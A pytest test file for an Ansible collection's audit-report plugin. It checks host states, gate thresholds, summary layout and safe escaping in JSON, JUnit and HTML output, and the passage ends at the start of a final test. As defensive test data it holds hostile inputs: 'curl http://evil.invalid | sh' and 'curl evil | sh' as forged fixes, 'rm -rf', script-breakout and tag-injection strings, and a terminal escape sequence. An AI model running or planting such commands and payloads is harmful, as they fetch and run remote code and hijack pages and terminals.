import json
import os
import xml.etree.ElementTree as ET

import pytest
import yaml

from ansible_collections.homelab.postmortem.plugins.module_utils import registry
from ansible_collections.homelab.postmortem.plugins.plugin_utils import report
from ansible_collections.homelab.postmortem.plugins.plugin_utils import report_encoding, report_files, report_gate, report_html, report_summary

from ...helpers.paths import REPO_ROOT
from ...helpers.report import host_entry, open_block, render_html, to_json, to_junit

CHECKS = [('pi_ir_tx', 'Pi IR'), ('llama_sleep_race', 'Sleep race')]


def finding(cid, status, summary='s', evidence=None):
    return {'id': cid, 'title': cid, 'status': status, 'summary': summary, 'evidence': evidence or {},
            'remediation': {'manual': ['fix']}, 'references': ['https://example.invalid']}


def audited(**findings):
    return {'changed': False, 'ansible_facts': {'postmortem': findings, 'postmortem_run': {'checks': list(findings)}}}


@pytest.fixture
def fleet():
    results = {
        'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'affected', 'IR broken'),
                       llama_sleep_race=finding('llama_sleep_race', 'not_applicable')),
        'gpu': audited(pi_ir_tx=finding('pi_ir_tx', 'not_applicable'),
                       llama_sleep_race=finding('llama_sleep_race', 'at_risk', 'sleeps </script><b>x</b>')),
        'dead': {'unreachable': True, 'msg': 'Failed to connect to the host via ssh'},
        'broken': {'failed': True, 'msg': "The module interpreter '/usr/bin/python9' was not found."},
        'gone': None,
    }
    return report.build(['pi1', 'gpu', 'dead', 'broken', 'gone'], results, CHECKS, '0.1.0')


def test_host_states_and_totals(fleet):
    states = dict((h['name'], h['state']) for h in fleet['hosts'])
    assert states == {'pi1': 'audited', 'gpu': 'audited', 'dead': 'unreachable', 'broken': 'failed', 'gone': 'failed'}
    assert fleet['totals'] == {'affected': 1, 'at_risk': 1, 'not_applicable': 2, 'unreachable': 1, 'failed': 2}
    assert [c['id'] for c in fleet['checks']] == ['pi_ir_tx', 'llama_sleep_race']
    assert report.worst(fleet) == 'affected'


@pytest.mark.parametrize('fail_on,unaudited,hits', [
    ('never', True, 0),
    # Three hosts could not be audited: they fail any gate, whatever its threshold.
    ('affected', True, 4),
    ('at_risk', True, 5),
    ('error', True, 5),
    ('ok', True, 5),
    ('not_applicable', True, 7),
    # ... unless the operator allows them.
    ('affected', False, 1),
    ('at_risk', False, 2),
    ('not_applicable', False, 4),
])
def test_threshold(fleet, fail_on, unaudited, hits):
    found = report_gate.Policy(fail_on, unaudited).hits(fleet)
    assert len(found) == hits
    assert sum(1 for h in found if h.endswith('(not audited)')) == (3 if unaudited and fail_on != 'never' else 0)


def test_junit_maps_statuses(fleet):
    root = ET.fromstring(to_junit(fleet))
    assert root.get('tests') == '10'
    assert root.get('failures') == '2'
    assert root.get('errors') == '6'  # 3 hosts x 2 checks
    assert root.get('skipped') == '2'
    case = root.find("./testsuite[@name='pi1']/testcase[@name='pi_ir_tx']/failure")
    assert case.get('type') == 'affected' and case.get('message') == 'affected: IR broken'
    assert json.loads(case.text)['remediation'] == {'manual': ['fix']}
    dead = root.find("./testsuite[@name='dead']/testcase[@name='llama_sleep_race']/error")
    assert 'Failed to connect' in dead.get('message')


def test_summary_lines(fleet):
    lines = report_summary.summary_lines(fleet, {'html': '/r/postmortem.html', 'json': '/r/postmortem.json'})
    text = '\n'.join(lines)
    assert lines[0] == 'homelab.postmortem audit: 5 host(s), 2 check(s)'
    assert '  CHECK             affected  at_risk  n/a' in text
    assert '  pi_ir_tx                 1        -    1' in text
    assert '  pi_ir_tx: affected pi1' in text and '  llama_sleep_race: at_risk gpu' in text
    assert '  not audited: dead (unreachable), broken (failed), gone (failed)' in text
    # The fix offered is the registry's for the check (detections/pi_ir_tx.py REMEDIATION), not the host's text.
    assert ('  pi1: pi_ir_tx [affected]\n      IR broken\n'
            '      fix: role homelab.postmortem.pi_ir_tx (switch: pi_ir_tx_reboot) (disruption: reboot)') in text
    assert '  dead: unreachable (not audited)\n      Failed to connect to the host via ssh' in text
    assert 'Totals: not_applicable 2, at_risk 1, affected 1, unreachable 1, failed 2' in text
    assert lines[-2:] == ['Full report: /r/postmortem.html', '             /r/postmortem.json']
    assert lines[-4:-2] == ['Docs per check (<check>.md):', '  %s' % report_summary.docs_dir()]
    assert max(len(line) for line in lines if not is_path_line(line)) <= 100


def is_path_line(line):
    """A line that holds only a path (the docs folder, a report file): printed whole, however long."""
    return line.strip().startswith('/') or line.startswith('Full report: ')


def test_an_unmeasured_finding_is_offered_no_fix():
    """unknown and error say the audit could not tell: a fix (a restart, a reboot) is never offered for them."""
    restart = {'role': 'homelab.postmortem.llama_server', 'vars': {}, 'module': None, 'manual': [], 'disruption': 'restart'}
    unknown = dict(finding('llama_sleep_race', 'unknown', 'could not read the unit'), remediation=restart)
    built = report.build(['gpu'], {'gpu': audited(llama_sleep_race=unknown)}, CHECKS, '0.2.0')
    text = '\n'.join(report_summary.summary_lines(built, {}))
    assert '  gpu: llama_sleep_race [unknown]\n      could not read the unit\n      no fix offered' in text
    assert 'fix:' not in text and 'disruption' not in text


def test_nothing_audited_is_a_report_of_its_own():
    scope = {'host_pattern': 'web*', 'inventory': ['/srv/inv.yml'], 'limit': None, 'check_mode': False}
    empty = report.build([], {}, CHECKS, '0.2.0', scope=scope)
    assert empty['nothing_audited'] == "no host matched 'web*' in /srv/inv.yml" and empty['hosts'] == []
    lines = report_summary.summary_lines(empty, {'json': '/r/postmortem.json'})
    assert "NOTHING WAS AUDITED: no host matched 'web*' in /srv/inv.yml." in lines
    assert report_gate.Policy('never', True, True).line(empty, []) == 'Gate: FAILED: nothing was audited (postmortem_fail_on_no_hosts: true).'
    assert json.loads(to_json(empty))['nothing_audited'].startswith('no host matched')
    junit = ET.fromstring(to_junit(empty))
    assert junit.get('errors') == '1' and junit.find('.//error').get('type') == 'nothing_audited'
    assert 'NOTHING WAS AUDITED' in render_html(empty)
    limited = report.build([], {}, CHECKS, '0.2.0', scope=dict(scope, limit='db1'))
    assert limited['nothing_audited'].endswith('with --limit db1')


@pytest.mark.parametrize('fail_on,expected', [
    ('never', 'Gate: off (postmortem_fail_on: never); at_risk would fail it: 2 finding(s), 3 unaudited host(s).'),
    ('affected', 'Gate: FAILED: 1 finding(s) at or above affected and 3 host(s) that could not be audited.'),
])
def test_the_gate_says_what_it_decided_or_would_have(fleet, fail_on, expected):
    hits = report_gate.Policy(fail_on, True).hits(fleet)
    assert report_gate.Policy(fail_on, True, True).line(fleet, hits) == expected


def embedded(page, element_id):
    start = page.index('id="%s">' % element_id) + len('id="%s">' % element_id)
    text = page[start:page.index('</script>', start)]
    return open_block(text) if element_id.startswith('chunk-') else json.loads(text)


def test_html_embeds_data_that_cannot_break_out_of_the_script(fleet):
    page = render_html(fleet)
    assert '</script><b>' not in page
    index = embedded(page, 'report-index')
    assert [h['n'] for h in index['hosts']] == [h['name'] for h in fleet['hosts']]
    findings = embedded(page, 'chunk-0')
    for position, host in enumerate(fleet['hosts']):
        if host['state'] == 'audited':
            assert findings[host['name']] == json.loads(json.dumps(host['findings']))
            assert [index['codes'].get(c) for c in index['hosts'][position]['c']] == [
                (host['findings'].get(check['id']) or {}).get('status') for check in fleet['checks']]


def test_html_for_ten_thousand_hosts_parses_an_index_not_the_evidence():
    hosts = ['h%05d' % i for i in range(10000)]
    results = dict((h, audited(pi_ir_tx=finding('pi_ir_tx', 'affected' if i % 50 == 0 else 'ok')))
                   for i, h in enumerate(hosts))
    page = render_html(report.build(hosts, results, CHECKS, '0.2.0'))
    index_text = page[page.index('id="report-index">'):page.index('</script>', page.index('id="report-index">'))]
    assert len(index_text) < 60 * 10000  # a few dozen bytes per host
    assert page.count('type="application/gzip+base64" id="chunk-') == 50
    assert embedded(page, 'chunk-49')['h09999']['pi_ir_tx']['status'] == 'ok'


def test_write_is_atomic_and_complete(tmp_path, fleet):
    paths, problems = report_files.write(fleet, str(tmp_path / 'out'), ['json', 'junit', 'html'])
    assert problems == []
    assert sorted(p.rsplit('/', 1)[1] for p in paths.values()) == ['postmortem-junit.xml', 'postmortem.html', 'postmortem.json']
    assert json.load(open(paths['json']))['totals']['affected'] == 1
    assert not [p for p in (tmp_path / 'out').iterdir() if p.name.startswith('.')]


def test_nothing_needs_attention_is_said():
    healthy = report.build(['pi1'], {'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'ok'))}, CHECKS, '0.1.0')
    assert 'Nothing needs attention.' in report_summary.summary_lines(healthy, {})
    assert report_gate.Policy('never', True, True).line(healthy, []) == 'Gate: off (postmortem_fail_on: never).'


def test_fix_text_is_the_registrys_whatever_the_host_says():
    """The summary offers what the registry declares for the check (detections/<id>.py REMEDIATION), so a
    host cannot suggest a role, a module or variables; only a disruption of the model's is taken (an image
    has nothing to reboot)."""
    forged = {'role': '/tmp/evilrole', 'vars': {'ansible_become': True}, 'module': 'evil.mod',
              'manual': ['curl evil | sh'], 'disruption': 'none'}
    assert report_summary.fix_text('pi_ir_tx', {'remediation': forged}) == \
        'role homelab.postmortem.pi_ir_tx (switch: pi_ir_tx_reboot)'
    assert report_summary.fix_text('pi_ir_tx', {'remediation': dict(forged, disruption='rm -rf')}) == \
        'role homelab.postmortem.pi_ir_tx (switch: pi_ir_tx_reboot) (disruption: reboot)'
    assert report_summary.fix_text('podman_export_idmap', {'remediation': forged}) == 'module homelab.postmortem.podman_safe_export'
    manual = registry.BY_ID['llama_spec_logprobs'].REMEDIATION['manual'][0]
    assert report_summary.fix_text('llama_spec_logprobs', {'remediation': forged}) == ' '.join(manual.split())[:200]


def test_the_offered_fix_names_switches_apart_from_the_roles_variables():
    """remediate never sets a switch for the user (an option whose spec says Disruptive:), so the fix the
    summary and the page offer lists the registry's switch variables as the user's to set, not as the
    role's variables. Which options are switches is read here from the role specs themselves."""
    roles = os.path.join(REPO_ROOT, 'roles')
    for detection in registry.DETECTIONS:
        declared = detection.REMEDIATION or {}
        if not declared.get('role') or not declared.get('vars'):
            continue
        with open(os.path.join(roles, declared['role'].split('.')[-1], 'meta', 'argument_specs.yml')) as handle:
            options = yaml.safe_load(handle)['argument_specs']['main']['options']
        switches = sorted(n for n in declared['vars'] if str(options[n]['description'][0] if isinstance(
            options[n]['description'], list) else options[n]['description']).startswith('Disruptive:'))
        offered = report_summary.offered_remediation(detection.ID)
        assert offered.get('switches', []) == switches, detection.ID
        assert set(offered['vars']) == set(declared['vars']) - set(switches), detection.ID
    assert report_summary.offered_remediation('llama_lora_cache')['switches'] == ['llama_server_restart']


def test_a_report_path_that_is_a_file_is_said_in_words(tmp_path, fleet):
    target = tmp_path / 'report'
    target.write_text('x')
    paths, problems = report_files.write(fleet, str(target), ['json'])
    assert paths == {}
    assert problems == ['the report directory %s is not a directory (a file of that name exists)' % target]


def test_failed_host_reasons_keep_the_cause_on_one_line():
    """module_stderr as Ansible returns it when the target's Python cannot run the module (recorded
    shape: a SyntaxError from a Python too old for ansible-core 2.19's module wrapper; no such
    Python can be installed here)."""
    result = {'failed': True, 'msg': 'MODULE FAILURE\nSee stdout/stderr for the exact error', 'rc': 1,
              'module_stdout': '',
              'module_stderr': ('Traceback (most recent call last):\r\n  File "<stdin>", line 12, in <module>\r\n'
                                '  File "<frozen zipimport>", line 259, in load_module\r\n'
                                'SyntaxError: future feature annotations is not defined\r\n'
                                'Shared connection to old-pi closed.\r\n')}
    entry = host_entry('old-pi', result)
    assert entry['reason'] == ('MODULE FAILURE See stdout/stderr for the exact error (module stderr: SyntaxError: '
                               'future feature annotations is not defined)')
    unreachable = host_entry('dead', {'unreachable': True, 'msg': 'Failed to connect\r\n  to the host\r\n'})
    assert unreachable['reason'] == 'Failed to connect to the host'


@pytest.mark.parametrize('facts,reason', [
    ({'postmortem': ['not', 'a', 'dict']}, 'the audit returned list instead of findings'),
    ({'postmortem': {'pi_ir_tx': {'status': 'fine'}}}, "the finding pi_ir_tx has no valid status ('fine')"),
    ({'postmortem': {'pi_ir_tx': {'status': None}}}, 'the finding pi_ir_tx has no valid status (None)'),
    ({'postmortem': {'pi_ir_tx': 'ok'}}, "the finding pi_ir_tx has no valid status ('ok')"),
])
def test_one_malformed_host_result_is_that_hosts_error_only(facts, reason):
    results = {'bad': {'ansible_facts': facts}, 'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'ok'))}
    fleet = report.build(['bad', 'pi1'], results, CHECKS, '0.1.0')
    bad = fleet['hosts'][0]
    assert (bad['state'], bad['reason']) == ('failed', reason)
    assert fleet['hosts'][1]['state'] == 'audited'
    ET.fromstring(to_junit(fleet))
    report_summary.summary_lines(fleet, {})


def test_the_summary_stays_a_summary_at_ten_thousand_hosts():
    hosts = ['h%05d' % i for i in range(10000)]
    results = {}
    for index, host in enumerate(hosts):
        status = 'affected' if index % 97 == 0 else 'at_risk' if index % 13 == 0 else 'ok'
        results[host] = audited(pi_ir_tx=finding('pi_ir_tx', status), llama_sleep_race=finding('llama_sleep_race', 'ok'))
    results['h00007'] = None  # never answered
    fleet_report = report.build(hosts, results, CHECKS, '0.2.0')
    lines = report_summary.summary_lines(fleet_report, {'json': '/r/postmortem.json'})
    text = '\n'.join(lines)
    assert len(lines) <= 60, len(lines)
    affected = sum(1 for i in range(10000) if i % 97 == 0)
    at_risk = sum(1 for i in range(10000) if i % 13 == 0 and i % 97 != 0)
    assert ('pi_ir_tx' in text and str(affected) in text and str(at_risk) in text)
    assert '  pi_ir_tx: affected h00000, h00097, h00194 +%d more; at_risk h00013, h00026, h00039 +%d more' % (
        affected - 3, at_risk - 3) in text
    assert 'Worst finding per host (%d host(s) need attention, the worst 8 shown):' % (affected + at_risk + 1) in text
    # The worst come first: affected hosts, in inventory order.
    worst = text.split('Worst finding per host', 1)[1].splitlines()
    assert worst[1:3] == ['  h00000: pi_ir_tx [affected]', '      s'] and worst[4] == '  h00097: pi_ir_tx [affected]'
    assert worst[3].startswith('      fix: role homelab.postmortem.pi_ir_tx')
    assert '... and %d more host(s)' % (affected + at_risk + 1 - 8) in text
    assert lines[-1] == 'Full report: /r/postmortem.json'


def test_every_host_failing_every_check_still_fits_a_screen():
    """10,000 hosts, twelve checks, every finding affected, a remediation that failed on many: the
    summary stays under about 60 lines of at most 100 columns."""
    ids = ['check_number_%02d_with_a_long_name' % i for i in range(12)]
    checks = [(cid, cid) for cid in ids]
    results, before, remediation = {}, {}, {}
    for index in range(10000):
        host = 'a-rather-long-host-name-%05d.example.internal' % index
        results[host] = audited(**dict((cid, finding(cid, 'affected', 'x' * 300)) for cid in ids))
        before[host] = results[host]
        remediation[host] = {'state': ('failed', 'lost', 'not_run')[index % 3], 'task': 'T' * 300, 'reason': 'r' * 900,
                             'notes': [{'role': 'homelab.postmortem.pi_ir_tx', 'note': 'n' * 500}] * 20}
    built = report.build(list(results), results, checks, '0.2.0', before=before, remediation=remediation)
    lines = report_summary.summary_lines(built, {'html': '/r/postmortem.html', 'json': '/r/j', 'junit': '/r/x'})
    lines.append(report_gate.Policy('never', True, True).line(built, []))
    assert len(lines) <= 60, len(lines)
    assert max(len(line) for line in lines if not is_path_line(line)) <= 100


def test_a_failed_module_is_summarised_by_its_cause_not_its_last_line():
    """pyenv's shim on these machines, when the interpreter it names is not installed (seen here: rc 127)."""
    result = {'failed': True, 'rc': 127, 'msg': 'The module failed to execute correctly, you probably need to set the interpreter.',
              'module_stderr': ("pyenv: python3.13: command not found\n\nThe `python3.13' command exists in these Python "
                                "versions:\n  3.13.0\n\nNote: See 'pyenv help global' for tips on allowing both\n"
                                "      python2 and python3 to be found at the same time.\n")}
    reason = host_entry('pi', result)['reason']
    assert reason.startswith('no working Python: pyenv: python3.13: command not found; tried the interpreter Ansible chose; ')
    assert reason.endswith('; module stderr: pyenv: python3.13: command not found / The `python3.13\' command exists in '
                           'these Python versions: / 3.13.0 / Note: See \'pyenv help global\' for tips on allowing both / '
                           'python2 and python3 to be found at the same time.')


# Results as ansible-core 2.19.14 registers them (ignore_errors) for a module that could not start,
# recorded on this machine with `ansible-playbook -i localhost, -c local` and a ping task:
# - interpreter discovery picked a pyenv shim whose version is not installed (a shim script on PATH
#   that prints what pyenv prints and exits 127);
PYENV_SHIM = {
    'ansible_facts': {'discovered_interpreter_python': '/home/op/.pyenv/shims/python3.13'}, 'changed': False,
    'exception': '(traceback unavailable)', 'failed': True,
    'module_stderr': "pyenv: python3.13: command not found\n\nThe `python3.13' command exists in these Python versions:\n  3.13.0\n",
    'module_stdout': '', 'msg': 'Module result deserialization failed: No start of json char found', 'rc': 127}
# - -e ansible_python_interpreter=/nonexistent/python3 (nothing at that path; no discovery, so no fact).
NO_FILE = {
    'changed': False, 'exception': '(traceback unavailable)', 'failed': True,
    'module_stderr': '/bin/sh: 1: /nonexistent/python3: not found\n', 'module_stdout': '',
    'msg': "The module interpreter '/nonexistent/python3' was not found.", 'rc': 127}


def test_a_module_that_could_not_start_names_the_interpreter_and_the_cure():
    shim = host_entry('laptop', PYENV_SHIM)['reason']
    assert shim.startswith('no working Python: pyenv: python3.13: command not found; tried '
                           '/home/op/.pyenv/shims/python3.13 (discovered); set ansible_python_interpreter, e.g. '
                           '-e ansible_python_interpreter=/usr/bin/python3, or in the inventory as the repository\'s '
                           'inventory/localhost.yml does. '), shim
    assert 'Ansible: Module result deserialization failed: No start of json char found; module stderr: pyenv: ' in shim
    missing = host_entry('pi', NO_FILE, interpreter='/nonexistent/python3')['reason']
    assert missing.startswith('no working Python: /bin/sh: 1: /nonexistent/python3: not found; tried /nonexistent/python3 '
                              '(ansible_python_interpreter); set ansible_python_interpreter, '), missing
    # Discovery's pick is what ran, whatever the inventory said before discovery was asked.
    assert 'tried /home/op/.pyenv/shims/python3.13 (discovered)' in host_entry('l', PYENV_SHIM, interpreter='auto')['reason']


def test_a_python_that_started_and_failed_is_not_an_interpreter_problem():
    """A traceback means Python ran (the SyntaxError of a too old one above); a module's own failure
    (fail_json: no module_stderr, no rc 127) keeps its message."""
    traceback = {'failed': True, 'rc': 1, 'msg': 'MODULE FAILURE', 'module_stderr': 'Traceback (most recent call last):\nOSError: x\n'}
    assert host_entry('a', traceback)['reason'] == 'MODULE FAILURE (module stderr: OSError: x)'
    assert host_entry('b', {'failed': True, 'msg': 'root /card does not exist on this host'})['reason'] == (
        'root /card does not exist on this host')


def test_the_summary_shows_the_error_line_and_the_interpreter_fix_within_its_width():
    shim = dict(PYENV_SHIM, module_stderr='\x1b]0;owned\x07pyenv: python3.13: command not found' + ' padding' * 30)
    built = report.build(['laptop', 'pi', 'x' * 120], {'laptop': PYENV_SHIM, 'pi': NO_FILE, 'x' * 120: shim}, CHECKS, '0.2.0',
                         interpreters={'pi': '/nonexistent/python3'})
    lines = report_summary.summary_lines(built, {})
    at = lines.index('  laptop: failed (not audited)')
    assert lines[at + 1] == '      no working Python: pyenv: python3.13: command not found; tried /home/op/.pyenv/shims/python...'
    assert lines[at + 2] == '      fix: set ansible_python_interpreter, e.g. -e ansible_python_interpreter=/usr/bin/python3'
    at = lines.index('  pi: failed (not audited)')
    assert lines[at + 1].startswith('      no working Python: /bin/sh: 1: /nonexistent/python3: not found; tried /nonexistent/')
    # A host's escape sequence is shown, never sent, and its line still fits.
    hostile = [line for line in lines if 'owned' in line]
    assert hostile and all('\x1b' not in line and '\\x1b]0;owned\\x07' in line and len(line) <= 100 for line in hostile), hostile
    assert max(len(line) for line in lines if not is_path_line(line)) <= 100


def test_before_and_after_are_counted():
    before = {'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'at_risk'), llama_sleep_race=finding('llama_sleep_race', 'ok')),
              'pi2': audited(pi_ir_tx=finding('pi_ir_tx', 'affected')), 'pi3': audited(pi_ir_tx=finding('pi_ir_tx', 'ok'))}
    after = {'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'ok'), llama_sleep_race=finding('llama_sleep_race', 'at_risk')),
             'pi2': audited(pi_ir_tx=finding('pi_ir_tx', 'affected')), 'pi3': None}
    built = report.build(['pi1', 'pi2', 'pi3'], after, CHECKS, '0.2.0', before=before)
    assert built['hosts'][0]['before'] == {'pi_ir_tx': 'at_risk', 'llama_sleep_race': 'ok'}
    lines = report_summary.remediation_lines(built)
    # Measured closed, never claimed fixed: no remediation was recorded (no role reported a change).
    assert lines[0] == 'Remediation: 0 fixed; 0 need a change by hand; 1 not run; 1 nothing to do'
    assert '  audit before -> after: 1 closed, 1 still open or not measured, 1 new' in lines
    assert '    pi1: llama_sleep_race ok -> at_risk, pi_ir_tx at_risk -> ok' in lines
    assert 'Remediation:' in '\n'.join(report_summary.summary_lines(built, {}))
    assert 'Remediation:' not in '\n'.join(report_summary.summary_lines(report.build(['pi1'], after, CHECKS, '0.2.0'), {}))


def test_the_fast_copy_falls_back_where_json_is_not_strict():
    class Tagged(str):
        pass
    clean = {'a': [1, 2.5, None, True, {'b': Tagged('x')}]}
    assert report_encoding.plain_fast(clean) == {'a': [1, 2.5, None, True, {'b': 'x'}]}
    assert report_encoding.plain_fast({'v': float('nan')}) == {'v': 'nan'}
    assert report_encoding.plain_fast({'v': u'bad \udcff byte'}) == {'v': 'bad \\xff byte'}
    assert report_encoding.plain_fast({'v': {1, 2}}) == report_encoding.plain({'v': {1, 2}})


HOSTILE = {'markup': 'say "hi" & <b>\'x\'</b> ]]> </script><!-- -->', 'controls': 'a\x00b\x07c\tline\nnext\r\n',
           'nonchars': u'\ufffe\uffff', 'unicode': u'caf\u00e9 \u2028 \U0001f600', 'number_keys': {1: 'one'}}


@pytest.fixture
def hostile_fleet():
    """Hosts whose findings take the encoder's fast path (strict JSON, hostile text) and hosts whose
    findings must be copied first (NaN, a lone surrogate, a set)."""
    results = {
        'strict': audited(pi_ir_tx=finding('pi_ir_tx', 'affected', 'IR "broken" <now>\n\x01', HOSTILE),
                          llama_sleep_race=finding('llama_sleep_race', 'error', u'\ufffe', {'x': [1, 2.5, None]})),
        'nan': audited(pi_ir_tx=finding('pi_ir_tx', 'at_risk', 'nan', {'v': float('nan')})),
        'surrogate': audited(pi_ir_tx=finding('pi_ir_tx', 'affected', u'bad \udcff', {'v': u'\udcff'})),
        'set': audited(pi_ir_tx=finding('pi_ir_tx', 'ok', 'set', {'v': {3}})),
        'dead': {'unreachable': True, 'msg': 'gone & <away>'},
    }
    return report.build(list(results), results, CHECKS, '0.2.0')


def test_the_json_file_is_json_dumps_of_the_report(hostile_fleet):
    expected = json.dumps(hostile_fleet, separators=(',', ':'), ensure_ascii=False)
    assert to_json(hostile_fleet) == expected
    # A report that lost the texts build() made (a copy) is written the same.
    assert to_json(dict(hostile_fleet)) == expected
    loaded = json.loads(expected)
    assert loaded['hosts'][0]['findings']['pi_ir_tx']['evidence']['number_keys'] == {'1': 'one'}
    assert loaded['hosts'][1]['findings']['pi_ir_tx']['evidence'] == {'v': 'nan'}
    assert loaded['hosts'][2]['findings']['pi_ir_tx']['evidence'] == {'v': '\\xff'}
    assert loaded['hosts'][3]['findings']['pi_ir_tx']['evidence'] == {'v': [3]}


def test_junit_carries_hostile_text_as_xml_can(hostile_fleet):
    root = ET.fromstring(to_junit(hostile_fleet))
    failure = root.find("./testsuite[@name='strict']/testcase[@name='pi_ir_tx']/failure")
    assert failure.get('message') == 'affected: IR "broken" <now>\n\\x01'
    assert json.loads(failure.text)['evidence']['markup'] == HOSTILE['markup']
    error = root.find("./testsuite[@name='strict']/testcase[@name='llama_sleep_race']/error")
    assert error.get('message') == 'error: \\ufffe'
    assert json.loads(root.find("./testsuite[@name='surrogate']/testcase[@name='pi_ir_tx']/failure").text)['summary'] == 'bad \\xff'
    assert root.find("./testsuite[@name='dead']/testcase[@name='pi_ir_tx']/error").text == 'gone & <away>'
    assert (root.get('tests'), root.get('failures'), root.get('errors'), root.get('skipped')) == ('10', '3', '3', '3')


def test_html_blocks_hold_the_same_findings(hostile_fleet):
    page = render_html(hostile_fleet)
    assert '</script><!--' not in page
    findings = embedded(page, 'chunk-0')
    for host in json.loads(to_json(hostile_fleet))['hosts']:
        assert findings[host['name']] == host['findings']


def test_the_encoder_without_its_c_accelerator_gives_the_same_text(monkeypatch, hostile_fleet):
    monkeypatch.setattr('json.encoder.c_make_encoder', None)
    public = report_encoding._make_strict_encode()
    for entry in hostile_fleet['hosts']:
        for value in entry['findings'].values():
            assert public(value) == report_encoding.strict_encode(value) == json.dumps(value, separators=(',', ':'), ensure_ascii=False)


def test_failed_and_skipped_remediation_is_named():
    before = {'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'at_risk')), 'pi2': audited(pi_ir_tx=finding('pi_ir_tx', 'at_risk')),
              'pi3': audited(pi_ir_tx=finding('pi_ir_tx', 'at_risk'))}
    after = {'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'ok')), 'pi2': audited(pi_ir_tx=finding('pi_ir_tx', 'at_risk')),
             'pi3': audited(pi_ir_tx=finding('pi_ir_tx', 'at_risk'))}
    remediation = {'pi1': {'state': 'fixed', 'roles': ['homelab.postmortem.pi_ir_tx']},
                   'pi2': {'state': 'failed', 'task': 'Apply the overlay fix', 'reason': 'could not replace\n/boot: Read-only'},
                   'pi3': {'state': 'not_run', 'reason': 'not touched: the run stopped after pi2 failed in an earlier batch'},
                   'pi4': None}
    built = report.build(['pi1', 'pi2', 'pi3'], after, CHECKS, '0.2.0', before=before, remediation=remediation)
    assert dict((k, v) for k, v in built['hosts'][0]['remediation'].items() if k != 'outcomes') == {
        'state': 'fixed', 'roles': ['homelab.postmortem.pi_ir_tx']}
    lines = report_summary.remediation_lines(built)
    # A record that reports no change (no role outcome) is never counted as fixed, though the finding closed.
    assert lines[0] == 'Remediation: 0 fixed; 0 need a change by hand; 1 FAILED; 1 not run; 1 nothing to do'
    assert built['outcomes'] == {'failed': 1, 'not_run': 1, 'nothing_to_do': 1}
    assert "  pi2: remediation FAILED in 'Apply the overlay fix': could not replace /boot: Read-only" in lines
    assert '  pi3: remediation not run: not touched: the run stopped after pi2 failed in an earlier batch' in lines
    assert json.loads(to_json(built))['hosts'][1]['remediation']['state'] == 'failed'
    odd = report.build(['pi1'], after, CHECKS, '0.2.0', remediation={'pi1': ['not', 'a', 'mapping']})
    assert odd['hosts'][0]['remediation'] == {'state': 'unknown', 'reason': 'the remediation record is list, not a mapping'}


def test_the_page_index_carries_what_a_remediation_left_undone():
    after = {'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'ok')), 'pi2': audited(pi_ir_tx=finding('pi_ir_tx', 'at_risk'))}
    built = report.build(['pi1', 'pi2'], after, CHECKS, '0.2.0', before=after,
                         remediation={'pi1': {'state': 'fixed'}, 'pi2': {'state': 'failed', 'task': 'T', 'reason': 'EROFS </script>'}})
    page = render_html(built)
    hosts = embedded(page, 'report-index')['hosts']
    assert 'm' not in hosts[0] and hosts[1]['m'] == {'s': 'failed', 'r': 'EROFS </script>', 't': 'T'}
    assert 'EROFS </script>' not in page


def static_part(page):
    """What the controller rendered into the page for a reader without JavaScript (before the data)."""
    return page[page.index('<header>'):page.index('<script type="application/json" id="report-index">')]


def test_html_offers_the_registrys_fix_never_the_hosts(hostile_fleet):
    """A compromised host's finding may advise any role, variables, module or command: the page's fix is the
    registry's REMEDIATION (issue 35), in the page's data and in the part rendered without JavaScript."""
    advice = {'role': 'evil.collection.takeover', 'vars': {'become_pwn': True}, 'module': 'evil.mod',
              'manual': ['curl http://evil.invalid | sh'], 'disruption': 'none'}
    hostile = dict(finding('pi_ir_tx', 'affected', 'IR broken'), remediation=advice)
    page = render_html(report.build(['pi1'], {'pi1': audited(pi_ir_tx=hostile)}, CHECKS, '0.2.0'))
    fix = [c for c in embedded(page, 'report-index')['checks'] if c['id'] == 'pi_ir_tx'][0]['fix']
    declared = json.loads(json.dumps(registry.BY_ID['pi_ir_tx'].REMEDIATION))
    assert fix == dict(declared, vars={}, switches=['pi_ir_tx_reboot'])
    assert fix['role'] == 'homelab.postmortem.pi_ir_tx'
    assert 'evil' not in static_part(page) and 'role homelab.postmortem.pi_ir_tx' in static_part(page)
    # The script reads the fix from the check, and from the host only a disruption of the model's.
    script = page[page.rindex('<script>'):]
    assert 'f.remediation ||' not in script and 'check.fix' in script and 'report.disruptions.indexOf(reported)' in script


def test_html_without_javascript_has_the_totals_and_the_worst_hosts_escaped(hostile_fleet):
    page = static_part(render_html(hostile_fleet))
    assert '<span data-total="affected">affected: 2</span>' in page and '<span data-total="unreachable">unreachable: 1</span>' in page
    rows = page[page.index('<section id="worst">'):page.index('</section>', page.index('<section id="worst">'))]
    assert rows.count('<tr data-host=') == 4  # strict, nan, surrogate and dead need attention; set is ok
    assert 'IR &quot;broken&quot; &lt;now&gt;' in rows and 'gone &amp; &lt;away&gt;' in rows
    assert '<now>' not in page and '<away>' not in page
    # Escaped as attribute values too: a host name cannot open a tag or end the attribute.
    named = render_html(report.build(['"><img src=x>'], {'"><img src=x>': audited(
        pi_ir_tx=finding('pi_ir_tx', 'affected'))}, CHECKS, '0.2.0'))
    assert '<img' not in static_part(named) and 'data-host="&quot;&gt;&lt;img src=x&gt;"' in static_part(named)


def test_html_without_javascript_stays_bounded_at_ten_thousand_hosts():
    hosts = ['h%05d' % i for i in range(10000)]
    results = dict((h, audited(pi_ir_tx=finding('pi_ir_tx', 'affected', 'x' * 5000), llama_sleep_race=finding(
        'llama_sleep_race', 'unknown' if i % 2 else 'ok', 'y' * 5000))) for i, h in enumerate(hosts))
    page = static_part(render_html(report.build(hosts, results, CHECKS, '0.2.0')))
    assert page.count('<tr data-host=') == report_html.WORST_HOSTS == 100
    assert '10000 host(s) need attention, the worst 100 shown' in page
    assert len(page) < 60000, len(page)  # summaries of 5,000 characters are cut to WORST_TEXT


def test_the_roles_notes_reach_the_report_and_the_summary():
    """#38: what a role handed to the record (a Pi 3 has no trial boot) is in the report's host record
    and in the summary (the first few, then how many more); a record's notes in another shape are left out."""
    from ansible_collections.homelab.postmortem.plugins.plugin_utils import terminal
